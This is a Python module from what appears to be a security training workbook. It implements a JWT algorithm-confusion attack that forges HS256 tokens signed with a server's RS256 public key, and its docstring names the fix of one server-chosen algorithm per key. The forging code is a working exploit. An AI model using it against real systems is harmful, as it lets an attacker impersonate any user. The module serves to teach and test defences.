"""A server that verifies RS256 has a public key, and a public key is no secret: the
server publishes it, or it is in the source. The attacker writes HS256 into the header
and signs a token for any user with the text of that key, as if it were a shared secret.
Code that lets the header choose the algorithm verifies it with the same text. What
stops it is one algorithm for each key, chosen by the server."""

from workbook.attacks.attack import ClassicAttack, paragraph
from workbook.attacks.classics.forging import original, random_key, show_each
from workbook.attacks.classics.public_keys import find_public_keys
from workbook.attacks.target import CannotBeTried, Target


def attempt(target: Target) -> tuple[bool, str]:
    token = original(target)
    found = find_public_keys(target)
    if not found and token.header.get("alg") != token.hmac:
        raise CannotBeTried(
            f"The tokens are signed with {token.header.get('alg')}, and the public key "
            "was not found: it is in no key set that the app publishes."
        )
    if not found:
        return False, "The app has no public key that could be taken for a secret."
    forged = {
        f"HS256 and the public key {where}{spelling} as the secret": token.signed(text)
        for where, pem in found.items()
        for spelling, text in _spellings(pem).items()
    }
    return show_each(target, forged, control=token.signed(random_key()))


def _spellings(pem: str) -> dict[str, str]:
    """The same key as different texts, each of which would be another secret."""
    return {
        "": pem,
        " with one line break at its end": pem.strip() + "\n",
        " without the last line break": pem.strip(),
    }


ATTACK = ClassicAttack(
    name="confuse_the_algorithms",
    title="Confuse the algorithms",
    attacker="anyone",
    has="network access, a username, and the server's public key",
    step="step04_jwt",
    mistake="a public key is used as an HMAC key",
    shows=(
        "A token with HS256 and the public key of its source (1) as the secret: 200 "
        "with johndoe@example.com."
    ),
    sources="RFC 8725, sections 2.1 and 3.1; CWE-347; CVE-2016-10555.",
    description=paragraph(__doc__),
    attempt=attempt,
)
